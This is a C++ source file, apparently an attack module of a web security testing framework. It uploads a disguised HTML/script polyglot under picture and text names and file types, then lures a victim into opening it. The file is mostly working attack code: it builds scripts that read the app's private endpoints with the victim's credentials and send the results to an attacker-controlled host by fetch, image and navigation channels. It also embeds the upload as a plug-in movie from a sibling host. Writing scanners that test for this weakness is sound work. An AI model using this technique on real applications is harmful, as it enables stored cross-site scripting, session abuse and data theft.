// mime-upload: uploads a page with a script under names and types of pictures and texts, and sends
// the victim to it. What a browser takes for HTML or SVG runs with the rights of the app's origin
// (OWASP File Upload Cheat Sheet; MIME Sniffing standard). An old browser's plug-in takes any file
// for a movie that a page of the attacker's calls one.
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/upload.h"

namespace parapet::attack {
namespace {

class MimeUpload final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                             send_script(Channel::Image, address, kAllInReach);
        for (Endpoint const* each : private_endpoints(target))
            script += fetch_and_send(app_origin(target) + each->path, address);
        std::string const movie = script;
        // A policy may leave no other way out than to another page.
        for (Endpoint const* each : private_endpoints(target))
            script += "fetch(" + script_string(app_origin(target) + each->path) +
                      ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
                      send_script(Channel::Navigation, address, "t") + "});";
        auto const files = upload(target, page_and_movie(script, movie));
        if (files.empty() || !victim_signs_in(target)) return;
        for (std::string const& path : files) {
            if (!received_texts(target).empty()) break;
            target.victim()->opens(whole(target, path));
            target.victim()->turns_away();
        }
        // As a movie in a page of his own it would be a program of the app's host.
        std::string html;
        for (std::string const& path : files)
            html += "<embed type=\"" + std::string(kMovieType) +
                    "\" src=" + in_quotes(whole(target, path)) + ">";
        OwnHost* const sibling = sibling_host(target);  // of the same site: cookies come along
        Lure(target, sibling != nullptr ? *sibling : *evil).show(html);
        target.note(std::to_string(files.size()) + " uploaded files were opened by a link.");
        try_loot(target, received_texts(target));
    }

    // Both in one file: to a script, a line that begins with <!-- is a comment (ECMAScript B.1.1).
    static std::string page_and_movie(std::string const& script, std::string const& movie) {
        return "<!-- --><!doctype html><title>A picture</title><script>" + script +
               "</script><!--\n" + movie + "\n//-->";
    }

    static std::string whole(Target const& target, std::string const& path) {
        return path.find("://") != std::string::npos ? path : app_origin(target) + path;
    }
};

}  // namespace

std::unique_ptr<Agent> make_mime_upload() { return std::make_unique<MimeUpload>(); }

}  // namespace parapet::attack
